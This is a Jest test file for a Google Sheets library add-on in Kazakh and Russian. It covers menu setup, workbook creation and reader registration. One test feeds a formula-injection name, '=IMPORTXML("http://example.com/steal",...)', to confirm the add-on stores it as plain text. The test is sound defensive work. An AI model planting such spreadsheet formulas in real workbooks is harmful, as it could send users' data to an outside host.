/**
 * The foundation's vertical slice through the built bundle: open the document, set up the workbook,
 * register readers from the sidebar's server function, refuse bad input without writing anything.
 */
import { JOURNALS, SETTINGS } from '../../sheets-template';
import type { Emulator } from '../../emulator/runtime';
import { journalRows, journalSheetId } from '../../emulator/workbook-view';
import { t } from '../../src/i18n';
import { AIGUL, emulator, ok, snapshot } from './helpers';

type Result = { ok: boolean; value?: { ticketNo: number; fullName: string }; errors?: Array<{ field: string; message: string }>; message: string };

function setUp(emu: Emulator) {
  return ok(emu.run<{ created: string[] }>('setupWorkbook'));
}

type MenuItems = Array<{ kind: 'item'; caption: string; functionName: string } | { kind: 'separator' } | { kind: 'submenu'; menu: { caption: string; items: MenuItems } }>;
type Outline = Array<string | [string, Outline]>;
/** The menu as the librarian reads it: captions, '-' for a separator, [caption, items] for a submenu. */
function menuOutline(items: MenuItems): Outline {
  return items.map((i) => (i.kind === 'item' ? i.caption : i.kind === 'separator' ? '-' : [i.menu.caption, menuOutline(i.menu.items)]));
}
function menuFunctions(items: MenuItems): string[] {
  return items.flatMap((i) => (i.kind === 'item' ? [i.functionName] : i.kind === 'submenu' ? menuFunctions(i.menu.items) : []));
}

describe('opening the document', () => {
  it('in AuthMode.NONE builds the Kazakh menu and touches nothing but the UI', () => {
    const emu = emulator();
    const exec = emu.openDocument('NONE');
    ok(exec);
    const menu = exec.effects.find((e) => e.kind === 'menu');
    expect(menu && menu.kind === 'menu' && menu.menu.addon).toBe(true);
    const outline = menu && menu.kind === 'menu' ? menuOutline(menu.menu.items) : [];
    expect(outline).toEqual([
      'Кітап беру және қайтару',
      'Оқырманды тіркеу',
      'Күнделікті жұмыс журналы',
      '-',
      ['Оқырмандар', ['Қарыздарлар: тізім мен еске салу қағаздары', 'Жаңа оқу жылы: қайта тіркеу']],
      ['Қор', ['Қорды толықтыру', 'Каталогтан іздеу', 'Есептен шығару', 'Жапсырмалар мен экспорт', 'Қорды түгендеу', 'Каталогты импорттау', '-', 'Мерзімді басылымдар']],
      ['Іс-шаралар, көрмелер, архив', ['Іс-шаралар', 'Кітап көрмелері', t('kk', 'menu.scans')]],
      ['Есептер мен жоспарлар', ['Есептер', t('kk', 'menu.monthlyPlanDoc'), t('kk', 'menu.annualPlanDoc'), '-', 'Ай сайынғы есепті қосу', 'Ай сайынғы есепті өшіру', '-', 'Drive-тағы архив']],
      '-',
      'Жұмыс кітабын баптау',
      'Кітапхана туралы',
    ]);
    const services = Object.keys(exec.calls.calls).map((k) => k.split('.')[0]);
    expect(services.filter((s) => !['SpreadsheetApp', 'Ui', 'Menu', 'Session'].includes(s))).toEqual([]);
    expect(exec.calls.calls['SpreadsheetApp.getActiveSpreadsheet']).toBeUndefined();
  });

  it('in a Russian locale speaks Russian before setup', () => {
    const emu = emulator({ userLocale: 'ru' });
    const exec = emu.openDocument('LIMITED');
    const menu = exec.effects.find((e) => e.kind === 'menu');
    expect(menu && menu.kind === 'menu' && menu.menu.items.slice(0, 2)).toEqual([
      { kind: 'item', caption: 'Выдача и возврат книг', functionName: 'showDesk' },
      { kind: 'item', caption: 'Записать читателя', functionName: 'showRegisterReader' },
    ]);
  });

  it('the menu names only functions the bundle defines', () => {
    const emu = emulator();
    const exec = emu.openDocument('LIMITED');
    const menu = exec.effects.find((e) => e.kind === 'menu');
    const fns = menu && menu.kind === 'menu' ? menuFunctions(menu.menu.items) : [];
    expect(fns.length).toBeGreaterThan(20);
    for (const fn of fns) expect(emu.functions()).toContain(fn);
  });
});

describe('Set up workbook', () => {
  it('creates every journal of the template, found by metadata, with Kazakh titles and the settings', () => {
    const emu = emulator();
    const exec = emu.run<{ created: string[] }>('setupWorkbook');
    const report = ok(exec);
    expect(report.created).toEqual(JOURNALS.map((j) => j.id));
    const alert = exec.effects.find((e) => e.kind === 'alert');
    expect(alert && alert.kind === 'alert' && [alert.title, alert.prompt]).toEqual(['Жұмыс кітабы дайын', `Жаңа журналдар: ${JOURNALS.length}.`]);
    const inspect = emu.spreadsheet.inspect;
    for (const j of JOURNALS) {
      const id = journalSheetId(inspect, j.id);
      expect([j.id, id]).toEqual([j.id, expect.any(Number)]);
      const sheet = inspect.sheets().find((s) => s.sheetId === id)!;
      expect(sheet.name).toBe(j.title.kk);
      expect(sheet.frozenRows).toBe(j.frozenRows);
      expect(sheet.hidden).toBe(!!j.hidden);
      expect(inspect.displayValues(id!)[0].slice(0, j.columns.length)).toEqual(j.columns.map((c) => c.title.kk));
      if (j.protection === 'warning') expect(sheet.protections.map((p) => p.warningOnly)).toEqual([true]);
      expect([j.id, sheet.maxColumns]).toEqual([j.id, j.columns.length]);
    }
    const settings = journalRows(inspect, 'settings');
    expect(settings.map((r) => r.key)).toEqual(SETTINGS.map((s) => s.key));
    expect(settings.find((r) => r.key === 'language')!.value).toBe('kk');
  });

  it('is idempotent: a second run creates nothing and changes no data', () => {
    const emu = emulator();
    setUp(emu);
    ok(emu.runFromClient('registerReader', [AIGUL]));
    const before = snapshot(emu);
    const again = setUp(emu) as unknown as { created: string[]; upgraded: unknown[]; settingsAdded: string[] };
    expect(again).toMatchObject({ created: [], upgraded: [], settingsAdded: [] });
    expect(snapshot(emu)).toBe(before);
  });

  it('upgrades an older workbook: a missing column is added at the end, the data stays', () => {
    const emu = emulator();
    setUp(emu);
    ok(emu.runFromClient('registerReader', [AIGUL]));
    // An older template had no "note" column: delete it, as if the workbook predates it.
    const readersId = journalSheetId(emu.spreadsheet.inspect, 'readers')!;
    const noteCol = emu.spreadsheet.inspect.developerMetadata().find((m) => m.sheetId === readersId && m.value === 'note')!.column!;
    librarian(emu, (ss) => ss.getSheetById(readersId)!.deleteColumn(noteCol));
    expect(() => journalRows(emu.spreadsheet.inspect, 'readers')[0].note).not.toThrow();
    const report = setUp(emu) as unknown as { upgraded: Array<{ journal: string; columns: string[] }> };
    expect(report.upgraded).toEqual([{ journal: 'readers', columns: ['note'] }]);
    const rows = journalRows(emu.spreadsheet.inspect, 'readers');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ ticketNo: 1, fullName: AIGUL.fullName, grade: '5А', note: '' });
  });
});

/** Does what the librarian does by hand in Sheets (rename, move, sort), outside any add-on execution. */
function librarian(emu: Emulator, act: (ss: GoogleAppsScript.Spreadsheet.Spreadsheet) => void): void {
  emu.refresh();
  const app = emu.spreadsheet.globals.SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
  act(app.getActiveSpreadsheet());
  emu.spreadsheet.save();
}

describe('Register a reader', () => {
  it('writes the formular row, moves the ticket counter and logs the operation', () => {
    const emu = emulator();
    setUp(emu);
    const result = ok(emu.runFromClient<Result>('registerReader', [AIGUL]));
    expect(result).toMatchObject({ ok: true, value: { ticketNo: 1, fullName: AIGUL.fullName }, message: 'Әбенова Айгүл Серікқызы тіркелді. Оқырман билетінің нөмірі: 1.' });
    const inspect = emu.spreadsheet.inspect;
    expect(journalRows(inspect, 'readers')).toEqual([
      expect.objectContaining({
        ticketNo: 1,
        fullName: 'Әбенова Айгүл Серікқызы',
        category: 'Оқушы',
        grade: '5А',
        school: '№12 мектеп-гимназия',
        address: 'Хромтау қ., Абай к-сі 5, 12',
        phone: '+7 701 123 45 67',
        registeredOn: '2026-11-27',
        status: 'Белсенді',
      }),
    ]);
    expect(journalRows(inspect, 'settings').find((r) => r.key === 'nextReaderTicket')!.value).toBe('2');
    const audit = journalRows(inspect, 'auditLog').filter((r) => r.operation === 'registerReader');
    expect(audit).toEqual([expect.objectContaining({ entity: 'reader', entityId: '1' })]);

    const second = ok(emu.runFromClient<Result>('registerReader', [{ ...AIGUL, fullName: 'Иванов Пётр', grade: '11Б' }]));
    expect(second.value!.ticketNo).toBe(2);
  });

  it('refuses bad input with Kazakh messages next to the fields, and writes nothing', () => {
    const emu = emulator();
    setUp(emu);
    const before = snapshot(emu);
    const result = ok(emu.runFromClient<Result>('registerReader', [{ ...AIGUL, fullName: '', phone: '12', registeredOn: '2027-01-01' }]));
    expect(result.ok).toBe(false);
    expect(result.message).toBe('Белгіленген өрістерді түзетіңіз. Ештеңе сақталған жоқ.');
    expect(result.errors!.map((e) => [e.field, e.message])).toEqual([
      ['fullName', 'Бұл өрісті толтырыңыз.'],
      ['phone', 'Телефон нөмірі 10–11 цифрдан тұруы керек, мысалы +7 701 123 45 67.'],
      ['registeredOn', 'Күн бүгіннен кейін бола алмайды.'],
    ]);
    expect(snapshot(emu)).toBe(before);
  });

  it('dates the registration by the library clock in Almaty: today by default, never in the future', () => {
    // 20:30 UTC on 26 November is already 27 November in Kazakhstan (UTC+5).
    const emu = emulator({ now: () => new Date('2026-11-26T20:30:00Z') });
    setUp(emu);
    ok(emu.runFromClient<Result>('registerReader', [{ ...AIGUL, registeredOn: '' }]));
    expect(journalRows(emu.spreadsheet.inspect, 'readers')[0].registeredOn).toBe('2026-11-27');
    const refused = ok(emu.runFromClient<Result>('registerReader', [{ ...AIGUL, registeredOn: '2026-11-28' }]));
    expect(refused.errors!.map((e) => e.field)).toEqual(['registeredOn']);
  });

  it('never hands out a ticket twice: a blank counter or one lowered by hand refuses, writing nothing', () => {
    const emu = emulator();
    setUp(emu);
    ok(emu.runFromClient('registerReader', [AIGUL]));
    const settingsId = journalSheetId(emu.spreadsheet.inspect, 'settings')!;
    const counterRow = journalRows(emu.spreadsheet.inspect, 'settings').findIndex((r) => r.key === 'nextReaderTicket') + 2;
    const valueCol = emu.spreadsheet.inspect.developerMetadata().find((m) => m.sheetId === settingsId && m.value === 'value')!.column!;
    for (const [value, message] of [
      ['1', '«Келесі оқырман билетінің нөмірі» баптауы артта қалған: № 1 бұрыннан бар. Баптаулар парағында оны ең үлкен нөмірден үлкен етіп қойыңыз.'],
      ['', '«Келесі оқырман билетінің нөмірі» баптауының мәні дұрыс емес: «».'],
    ]) {
      librarian(emu, (ss) => ss.getSheetById(settingsId)!.getRange(counterRow, valueCol).setValue(value));
      const before = snapshot(emu);
      const result = ok(emu.runFromClient<Result>('registerReader', [{ ...AIGUL, fullName: 'Ли Мария' }]));
      expect([result.ok, result.message]).toEqual([false, message]);
      expect(snapshot(emu)).toBe(before);
    }
  });

  it('stores a name typed as a formula as that text, never as a formula', () => {
    const emu = emulator();
    setUp(emu);
    const name = '=IMPORTXML("http://example.com/steal","//a")';
    ok(emu.runFromClient<Result>('registerReader', [{ ...AIGUL, fullName: name, phone: '+77011234567' }]));
    const inspect = emu.spreadsheet.inspect;
    const row = journalRows(inspect, 'readers')[0];
    expect(row.fullName).toBe(name);
    expect(row.phone).toBe('+77011234567');
    const readersId = journalSheetId(inspect, 'readers')!;
    expect(inspect.formulas(readersId).flat().filter((f) => f !== '')).toEqual([]);
  });

  it('refuses a Date argument as google.script.run does, writing nothing', () => {
    const emu = emulator();
    setUp(emu);
    const before = snapshot(emu);
    const exec = emu.runFromClient('registerReader', [{ ...AIGUL, registeredOn: new Date() }]);
    expect(exec.ok).toBe(false);
    expect(exec.error!.message).toMatch(/illegal parameter.*Date/);
    expect(snapshot(emu)).toBe(before);
  });

  it('before setup, tells the librarian to run the setup and writes nothing', () => {
    const emu = emulator();
    const before = snapshot(emu);
    const result = ok(emu.runFromClient<Result>('registerReader', [AIGUL]));
    expect(result).toMatchObject({ ok: false, message: 'Жұмыс кітабы әлі бапталмаған: мәзірден «Жұмыс кітабын баптау» пәрменін орындаңыз.' });
    expect(snapshot(emu)).toBe(before);
  });

  it('keeps working when the librarian renames the sheet, inserts and moves columns and sorts rows', () => {
    const emu = emulator();
    setUp(emu);
    ok(emu.runFromClient('registerReader', [{ ...AIGUL, fullName: 'Ярослав Ким' }]));
    ok(emu.runFromClient('registerReader', [{ ...AIGUL, fullName: 'Айдана Бекова' }]));
    const readersId = journalSheetId(emu.spreadsheet.inspect, 'readers')!;
    librarian(emu, (ss) => {
      const sheet = ss.getSheetById(readersId)!;
      sheet.setName('Оқырмандар 2026');
      sheet.insertColumnBefore(1); // her own column in front
      sheet.getRange(1, 1).setValue('Менің белгім');
      const nameCol = 3; // ticketNo moved to B, fullName to C
      sheet.moveColumns(sheet.getRange(1, nameCol, sheet.getMaxRows(), 1), 10); // fullName moved to the right
      sheet.sort(5, true); // rows sorted by hand
    });
    const result = ok(emu.runFromClient<Result>('registerReader', [{ ...AIGUL, fullName: 'Бақыт Нұрланұлы', grade: '7ә' }]));
    expect(result.value!.ticketNo).toBe(3);
    const rows = journalRows(emu.spreadsheet.inspect, 'readers');
    expect(rows.map((r) => [r.ticketNo, r.fullName]).sort()).toEqual([
      [1, 'Ярослав Ким'],
      [2, 'Айдана Бекова'],
      [3, 'Бақыт Нұрланұлы'],
    ]);
    expect(rows.find((r) => r.ticketNo === 3)!.grade).toBe('7Ә');
    const values = emu.spreadsheet.inspect.values(readersId);
    expect(values[0][0]).toBe('Менің белгім');
    expect(values.slice(1).map((r) => r[0])).toEqual(['', '', '']); // her column untouched
  });

  it('costs the same service calls and cells read for the 1st and the 40th reader', () => {
    const emu = emulator();
    setUp(emu);
    ok(emu.runFromClient('registerReader', [AIGUL])); // the first run after setup may resolve layouts
    const first = emu.runFromClient('registerReader', [AIGUL]);
    for (let i = 0; i < 37; i++) ok(emu.runFromClient('registerReader', [AIGUL]));
    const fortieth = emu.runFromClient<Result>('registerReader', [AIGUL]);
    expect(ok(fortieth).value!.ticketNo).toBe(40);
    expect(fortieth.calls.calls).toEqual(first.calls.calls);
    expect(fortieth.calls.cellsRead).toBe(first.calls.cellsRead);
    // One read and one write per journal: readers, settings, audit log.
    expect(fortieth.calls.calls['Range.setValues']).toBeLessThanOrEqual(3);
    expect(fortieth.calls.calls['Range.getValues']).toBeLessThanOrEqual(3);
  });
});
